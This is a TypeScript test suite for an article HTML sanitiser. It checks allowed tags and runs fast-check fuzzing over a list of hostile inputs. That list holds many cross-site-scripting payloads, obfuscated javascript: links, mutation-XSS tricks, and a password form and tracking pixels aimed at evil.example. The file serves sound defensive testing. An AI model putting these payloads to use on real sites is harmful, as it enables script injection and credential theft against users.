import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { cleanContent, cleanSubTitle } from './article-html.server.ts';
import { plainWords } from './rules.ts';

const PICTURE = '/media/01890000-0000-7000-8000-000000000000-640.webp';

/** Tags that sanitised HTML may contain, in their only spelling. */
const LEGAL =
  /<\/?(?:p|h[234]|ul|ol|li|blockquote|strong|em|code|figure|figcaption|table|thead|tbody|tr|th|td|a)>|<(?:br|hr) \/>|<a href="(?:https?:\/\/|mailto:|\/(?!\/)|#)[^"<>]*" rel="noopener noreferrer nofollow">|<img src="\/media\/[\da-f-]{36}-(?:320|640|1280)\.webp" alt="[^"<>]*" \/>/gi;

/** After all legal tags are removed no bracket may remain. */
function expectInert(html: string): void {
  expect(html.replace(LEGAL, '')).not.toMatch(/[<>]/);
}

describe('what stays', () => {
  it('is the structure of a text, links and our own pictures', () => {
    const html = [
      '<h2>Why</h2><h3>So</h3><h4>Then</h4><p>A <strong>bold</strong> and <em>slanted</em> <code>word</code><br />next</p>',
      '<ul><li>one</li></ul><ol><li>two</li></ol><blockquote>said</blockquote><hr />',
      '<table><thead><tr><th>Kg</th></tr></thead><tbody><tr><td>5</td></tr></tbody></table>',
      `<figure><img src="${PICTURE}" alt="Bales" /><figcaption>Bales</figcaption></figure>`,
      '<p><a href="https://cpcb.nic.in/" rel="noopener noreferrer nofollow">CPCB</a></p>',
    ].join('');
    expect(cleanContent(html)).toBe(html);
  });

  it('is turned into ours where it means the same', () => {
    expect(cleanContent('<h1>A</h1><div>b <b>c</b> <i>d</i></div><h6>e</h6>')).toBe(
      '<h2>A</h2><p>b <strong>c</strong> <em>d</em></p><h4>e</h4>',
    );
    // Input as an editor produces it.
    expect(cleanContent('<p class="x" dir="ltr"><span style="white-space: pre-wrap;">plain</span></p>')).toBe(
      '<p>plain</p>',
    );
  });

  it.each(['/Erpcredits', '#top', 'mailto:a@b.in', 'http://a.in/?b=c', 'HTTPS://a.in'])('a link to %s', (href) => {
    expect(cleanContent(`<p><a href="${href}" target="_blank" onclick="x()">to</a></p>`)).toContain(
      `<a href="${href}" rel="noopener noreferrer nofollow">to</a>`,
    );
  });

  it('nothing, where nothing would be seen', () => {
    for (const html of ['', ' ', '<p></p>', '<p><br></p>', '<p>&nbsp;</p>', '<script>1</script>', '<img src="x">'])
      expect(cleanContent(html)).toBe('');
    expect(cleanContent(`<img src="${PICTURE}">`)).not.toBe('');
  });

  it('text alone in a sub-title', () => {
    expect(cleanSubTitle(`<h2>a</h2><p>b <em>c</em></p><ul><li>d</li></ul><img src="${PICTURE}">`)).toBe(
      'a<p>b <em>c</em></p>d',
    );
  });
});

describe('scripts and external resources are removed', () => {
  const hostile = [
    '<script>alert(1)</script>',
    '<scr<script>ipt>alert(1)</scr</script>ipt>',
    '<img src=x onerror=alert(1)>',
    `<img src="${PICTURE}" onload="alert(1)">`,
    '<img src="https://evil.example/pixel.png">',
    '<img src="//evil.example/media/x.webp">',
    `<img src="https://evil.example${PICTURE}">`,
    `<img srcset="https://evil.example/x 2x" src="${PICTURE}">`,
    '<svg/onload=alert(1)>',
    '<svg><style><img src=x onerror=alert(1)></style></svg>',
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<object data="javascript:alert(1)"></object><embed src="javascript:alert(1)">',
    '<form action="https://evil.example"><input name=password><button>Log in</button></form>',
    '<style>@import "https://evil.example"</style><link rel=stylesheet href=https://evil.example>',
    '<base href="https://evil.example/"><meta http-equiv=refresh content="0;url=https://evil.example">',
    '<p style="background:url(https://evil.example)" id="x" class="y" data-z="1">text</p>',
    '<a href="javascript:alert(1)">x</a>',
    '<a href="JaVaScRiPt:alert(1)">x</a>',
    '<a href=" &#1; javascript:alert(1)">x</a>',
    '<a href="java\tscript:alert(1)">x</a>',
    '<a href="java&#10;script:alert(1)">x</a>',
    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    '<a href="vbscript:msgbox(1)">x</a>',
    '<a href="//evil.example">x</a>',
    '<a href="/\\evil.example">x</a>',
    '<a href="\\\\evil.example">x</a>',
    '<a href="/\t/evil.example">x</a>',
    '<a href="https:evil">x</a>',
    '<a href="evil.html">x</a>',
    '<a name="x">x</a>',
    '<textarea><script>alert(1)</script></textarea>',
    '<template><img src=x onerror=alert(1)></template>',
    '<xmp><script>alert(1)</script></xmp>',
    '<p>&lt;script&gt;alert(1)&lt;/script&gt;</p>',
    '<!--><img src=x onerror=alert(1)>-->',
    '<![CDATA[<img src=x onerror=alert(1)>]]>',
    '<p><a href="https://a.in" onmouseover="alert(1)" ping="https://evil.example">x</a></p>',
    '<<p>p>',
    '<p/onclick=alert(1)>x',
    '<title><img src=x onerror=alert(1)></title>',
    '<plaintext><script>alert(1)',
  ];
  it.each(hostile)('%s', (html) => {
    const cleaned = cleanContent(html);
    expectInert(cleaned);
    expect(cleaned).not.toMatch(/evil\.example"|href="(?:javascript|data|vbscript)/i);
    expectInert(cleanSubTitle(html));
  });

  it('a link that is none leaves its words', () => {
    expect(cleanContent('<p>go <a href="javascript:alert(1)">there</a></p>')).toBe('<p>go there</p>');
  });

  const piece = fc.oneof(
    fc.constantFrom(...hostile),
    fc.constantFrom(
      '<',
      '>',
      '"',
      "'",
      '&',
      '<!--',
      '-->',
      '</',
      '/>',
      '&lt;',
      '&#60;',
      '\u0001',
      '\u00a0',
      '<a href="',
      '<img src="',
    ),
    fc.constantFrom(
      '<p>',
      '</p>',
      '<table>',
      '<td>',
      '<ul>',
      '<li>',
      '</ul>',
      '<a href="https://a.in">',
      '</a>',
      '<svg>',
      '<math>',
    ),
    fc.string({ unit: 'grapheme', maxLength: 12 }),
  );
  it('list items that stand in each other are the same when they are saved again', () => {
    const cleaned = cleanContent('<li>a<ul><li>b</ul><table><li>c<td><li>d');
    expect(cleanContent(cleaned)).toBe(cleaned);
  });

  it('whatever is put together', () => {
    fc.assert(
      fc.property(fc.array(piece, { maxLength: 14 }), (pieces) => {
        const cleaned = cleanContent(pieces.join(''));
        expectInert(cleaned);
        // Sanitising is idempotent.
        expect(cleanContent(cleaned)).toBe(cleaned);
        expect(plainWords(cleaned)).toBe(plainWords(cleaned).trim());
      }),
      { numRuns: 500 },
    );
  });
});

it('the words of a text are those that are read', () => {
  expect(plainWords('<h2>A &amp; B</h2><p>1 &lt; <strong>2</strong>3<br />four</p>')).toBe('A & B 1 < 23 four');
});
